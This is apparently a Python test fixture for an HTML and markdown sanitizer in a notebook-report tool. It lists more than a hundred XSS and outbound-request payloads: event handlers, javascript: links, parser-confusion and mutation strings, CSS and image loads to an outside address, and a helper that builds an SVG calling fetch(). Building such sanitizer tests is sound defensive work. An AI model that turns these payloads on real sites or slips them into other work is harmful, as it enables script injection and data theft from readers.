"""What somebody may put into a notebook so that it runs, or calls, in the browser of whoever reads the report.

Each is named by what it wants and holds `JS`, a piece of script, or `URL`, an address that is not to be asked for.
"""

from __future__ import annotations

import base64

GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
IMG = "<img src=x: onerror=JS>"

# These work in today's Chromium: the test shows it.
WORKING = {
    # elements and events
    "a script": "<script>JS</script>",
    "a script as a module": "<script type=module>JS</script>",
    "a script of svg": "<svg><script>JS</script></svg>",
    "a script of svg from a data address": "<svg><script href='data:text/javascript,JS'></script></svg>",
    "a picture that fails": IMG,
    "a picture that loads": f"<img src='{GIF}' onload=JS>",
    "an svg that loads": "<svg onload=JS></svg>",
    "slashes in place of blanks": "<svg/onload=JS//>",
    "line ends around the equals sign": "<img src=x:\nonerror\n=\nJS>",
    "capitals here and there": "<ImG SrC=x: OnErRoR=JS>",
    "a tag that ends in the next": "<img src=x: onerror=JS <p>",
    "character references in an event": "<img src=x: onerror=&#40;JS&#x29;>",
    "a film whose source fails": "<video><source src=x: onerror=JS></video>",
    "a sound that fails": "<audio src=x: onerror=JS></audio>",
    "a body that loads": "<body onload=JS>",
    "a frameset that loads": "<frameset onload=JS></frameset>",
    "details that open": "<details open ontoggle=JS>a</details>",
    "a field in focus": "<input autofocus onfocus=JS>",
    "a text field in focus": "<textarea onfocus=JS></textarea>",
    "a list in focus": "<select onfocus=JS></select>",
    "a mouse that comes by": "<p onmouseover=JS>a</p>",
    "a wheel that turns": "<p onwheel=JS>a</p>",
    "a stylesheet that fails": "<link rel=stylesheet href=x: onerror=JS>",
    "an animation that begins": "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=JS>a</b>",
    "a part that comes into sight": "<p style='content-visibility:auto' oncontentvisibilityautostatechange=JS>a</p>",
    "a popover": "<button popovertarget=x>a</button><p popover id=x onbeforetoggle=JS>b</p>",
    # frames, objects and addresses
    "a frame with a page of its own": "<iframe srcdoc='<script>JS</script>'></iframe>",
    "a frame whose address is script": "<iframe src='javascript:JS'></iframe>",
    "a frame with a data address": "<iframe src='data:text/html,<img src=URL>'></iframe>",
    "an object with a data address": "<object data='data:text/html,<img src=URL>'></object>",
    "an embedded picture with script": "<embed type=image/svg+xml src='data:image/svg+xml;base64,{svg}'>",
    "a link that is script": "<a href='javascript:JS'>a</a>",
    "a link that is script in references": "<a href='&#106;avascript:JS'>a</a>",
    "a link with a tab in its scheme": "<a href='java&Tab;script:JS'>a</a>",
    "a link with a line end in its scheme": "<a href='java\nscript:JS'>a</a>",
    "a link with a control sign before its scheme": "<a href='&#1;javascript:JS'>a</a>",
    "a link in capitals": "<a href=' JaVaScRiPt:JS'>a</a>",
    "an area that is script": "<map name=m><area href='javascript:JS'></map>",
    "a link of svg": "<svg><a xlink:href='javascript:JS'><text y=20>a</text></a></svg>",
    "a link of svg that is set": "<svg><a><set attributeName=href to='javascript:JS' /><text y=20>a</text></a></svg>",
    "a form that is sent to script": "<form action='javascript:JS'><button>a</button></form>",
    "a button that sends to script": "<form><button formaction='javascript:JS'>a</button></form>",
    "a field that sends to script": "<form><input type=submit formaction='javascript:JS'></form>",
    # other namespaces
    "an animation of svg": "<svg><animate onbegin=JS attributeName=x dur=1s /></svg>",
    "a picture of svg that fails": "<svg><image href=x: onerror=JS /></svg>",
    "html in svg": f"<svg><foreignObject>{IMG}</foreignObject></svg>",
    "html in the title of svg": f"<svg><title>{IMG}</title></svg>",
    "a style of svg, which is no style": f"<svg><style>{IMG}</style></svg>",
    "a style of mathematics": f"<math><style>{IMG}</style></math>",
    "html in mathematics": f"<math><mtext>{IMG}</mtext></math>",
    "html in an annotation": f"<math><annotation-xml encoding=text/html>{IMG}</annotation-xml></math>",
    "a way out of svg": f"<svg><p>{IMG}</svg>",
    "a text of mathematics that holds a table": f"<math><mi><table><td>{IMG}</table></math>",
    # what is read as text, up to an end that stands in an attribute
    "an end of noscript": f'<noscript><p title="</noscript>{IMG}"></noscript>',
    "an end of a title": f'<title><a title="</title>{IMG}"></title>',
    "an end of a text field": f'<textarea><a title="</textarea>{IMG}"></textarea>',
    "an end of a style": f'<style><a title="</style>{IMG}"></style>',
    "an end of xmp": f'<xmp><a title="</xmp>{IMG}"></xmp>',
    "an end of noembed": f'<noembed><a title="</noembed>{IMG}"></noembed>',
    "an end of noframes": f'<noframes><a title="</noframes>{IMG}"></noframes>',
    "an end of a frame": f'<iframe><a title="</iframe>{IMG}"></iframe>',
    "a shadow tree": f"<div><template shadowrootmode=open>{IMG}</template></div>",
    "a comment that is empty": f"<!-->{IMG}-->",
    "a comment that ends with an exclamation mark": f"<!-- --!>{IMG} -->",
    "character data outside of svg": f"<![CDATA[>{IMG}]]>",
    "an instruction that ends early": f"<?xml >{IMG}?>",
    "a declaration that ends early": f'<!DOCTYPE a "x>{IMG}">',
    # what loads
    "a refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "another base for addresses": "<base href='URL/'><img src=a>",
    "styles from elsewhere": "<style>@import 'URL';</style>",
    "styles from elsewhere in escapes": r"<style>@\69mport 'URL';</style>",
    "a background": "<p style='background:url(URL)'>a</p>",
    "a background in escapes": r"<p style='background:u\72l(URL)'>a</p>",
    "one of several pictures": "<p style='background-image:image-set(\"URL\" 1x)'>a</p>",
    "what a field holds": "<style>input[value^=x]{background:url(URL)}</style><input value=xy>",
    "a font": "<style>@font-face{font-family:f;src:url(URL)} p{font-family:f}</style><p>a</p>",
    "contents made by style": "<style>b::after{content:url(URL)}</style><b>a</b>",
    "a mark in a list": "<ul style='list-style:url(URL)'><li>a</ul>",
    "a colour of svg from elsewhere": "<svg><rect width=9 height=9 style='fill:url(URL#a)'/></svg>",
    "a picture from elsewhere": "<img src=URL>",
    "a set of pictures": "<img srcset='URL 1x'>",
    "a poster": "<video poster=URL></video>",
    "a background as before styles": "<table background=URL><tr><td>a</table>",
    "a link to load": "<link rel=preload as=image href=URL>",
    "a picture as a button": "<form><input type=image src=URL></form>",
}
# These are meant for older browsers or for a cleaning that misreads them: they may do nothing, and must do nothing.
OTHERS = {
    "a deep tree with a style at its end": "<div>" * 600 + f'<svg><style><a title="</style>{IMG}">',
    "a comment within a style within mathematics": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=JS&gt;">'
    ),
    "an end of style within an attribute in svg": f'<svg></p><style><a id="</style>{IMG}">',
    "a form within mathematics": f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    "a style in a list": f"<select><style></select>{IMG}</style>",
    "character data in svg": f"<svg><![CDATA[><a title=']]>{IMG}'>]]></svg>",
    "a script under another prefix": '<svg><x:script xmlns:x="http://www.w3.org/1999/xhtml">JS</x:script></svg>',
    "zero bytes in a name": "<scr\0ipt>JS</scr\0ipt><img src=x: on\0error=JS>",
    "zero bytes in a scheme": "<a href='java\0script:JS'>a</a>",
    "letters that fold to others": "<\u017fcript>JS</\u017fcript><lin\u212a rel=stylesheet href=URL>",
    "wide brackets": "\uff1cimg src=x: onerror=JS\uff1e",
    "brackets in UTF-7": "<meta charset=utf-7>+ADw-script+AD4-JS+ADw-/script+AD4-",
    "an expression of style": "<p style='width:expression(JS);behavior:url(URL);-moz-binding:url(URL)'>a</p>",
    "script in an import": "<style>@import 'javascript:JS';</style>",
    "a picture that is script": "<img src='javascript:JS'><img src='data:image/svg+xml,<svg onload=JS>'>",
    "a use of another picture": "<svg><use href='data:image/svg+xml;base64,{svg}#a' /></svg>",
    "a link of mathematics": "<math href='javascript:JS'>a</math><math><maction xlink:href='javascript:JS'>a</maction>",
    "script of another language": "<a href='vbscript:JS'>a</a><script type=text/vbscript>JS</script>",
    "an older import": "<link rel=import href='data:text/html,<script>JS</script>'>",
    "a table that throws its contents out": f"<table><tr><style></table>{IMG}</style>",
    "an anchor within an anchor": f"<a><table><a title='</a>{IMG}'></table></a>",
    "markdown: a link": "[a](javascript:JS)",
    "markdown: a link in references": "[a](&#106;avascript:JS)",
    "markdown: a reference": "[a][b]\n\n[b]: javascript:JS",
    "markdown: an address": "<javascript:JS>",
    "markdown: a title that ends early": '[a](x "\\">' + IMG + '")',
    "markdown: a description that ends early": '![">' + IMG + "](x:)",
    "markdown: the language of code": f'```">{IMG}\na\n```',
    "markdown: code": f"`{IMG}`\n\n    {IMG}",
    "markdown: a heading": f'# "><{IMG}\n\n## {IMG}',
    "markdown: a table": f"|{IMG}|\n|-|\n|{IMG}|",
    "markdown: a footnote": f"a[^1]\n\n[^1]: {IMG}",
    "markdown: a definition": f"a\n: {IMG}",
    "markdown: html over blocks": f"<div title='\n\n{IMG}\n\n'>",
    "a formula": rf"$\text{{{IMG}}}$ $$\mathbf{{{IMG}}} < {IMG}$$",
}


def payload(text: str, script: str, address: str) -> str:
    """An attempt with its script and address in place."""
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' id='a'><script>fetch('{address}')</script></svg>"
    text = text.replace("{svg}", base64.b64encode(svg.encode()).decode())
    return text.replace("JS", script).replace("URL", address)
